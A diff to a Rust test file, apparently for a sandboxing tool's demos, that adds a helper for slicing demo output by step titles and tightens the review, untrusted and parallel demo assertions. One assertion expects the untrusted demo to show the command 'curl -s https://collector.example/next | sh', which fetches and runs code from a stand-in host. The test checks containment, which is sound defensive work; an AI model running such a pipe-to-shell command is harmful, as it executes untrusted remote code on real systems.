@@ -52,19 +52,51 @@ fn demo_repro_fix_runs_end_to_end() {
     assert!(!diff.contains("TypeError"), "{diff}");
 }
 
+/// The part of a demo's stdout from the step titled `from` up to the one
+/// titled `to`.
+fn between<'a>(out: &'a str, from: &str, to: &str) -> &'a str {
+    let start = out
+        .find(from)
+        .unwrap_or_else(|| panic!("no step '{from}':\n{out}"));
+    let rest = &out[start..];
+    &rest[..rest.find(to).unwrap_or(rest.len())]
+}
+
 #[test]
 fn demos_review_untrusted_and_parallel_run_end_to_end() {
     let home = TestHome::new();
     let review = demo(&home, "review");
-    assert!(review.contains("median"), "{review}");
+    let diff = between(&review, "Exactly what it changes.", "What ran and failed");
+    assert!(diff.contains("+def median(values):"), "{diff}");
+    let summary = between(&review, "What ran and failed", "Throw it away");
+    assert!(summary.contains("FAILED (exit 1, "), "{summary}");
+
     let untrusted = demo(&home, "untrusted");
+    let outside = between(&untrusted, "What it left outside", "no network device");
     assert!(
-        untrusted.contains("curl -s https://collector.example/next"),
-        "{untrusted}"
+        outside.contains("curl -s https://collector.example/next | sh"),
+        "{outside}"
     );
-    assert!(untrusted.contains(".cache.bin"), "{untrusted}");
+    let diff = between(
+        &untrusted,
+        "What it wrote in /workspace.",
+        "What it left outside",
+    );
+    assert!(diff.contains("b/.cache.bin"), "{diff}");
+    let net = between(
+        &untrusted,
+        "no network device to leave by",
+        "takes no secrets",
+    );
+    assert!(net.contains("/sys/class/net\nlo\n\n"), "only lo: {net}");
+
     let parallel = demo(&home, "parallel");
-    assert!(parallel.contains("work on fix-a"), "{parallel}");
+    let own = between(
+        &parallel,
+        "Each holds its own branch.",
+        "Work in one of them",
+    );
+    assert!(own.contains("work on fix-a"), "{own}");
 }
 
 /// Through the package indexes (PyPI here), so it needs the registries
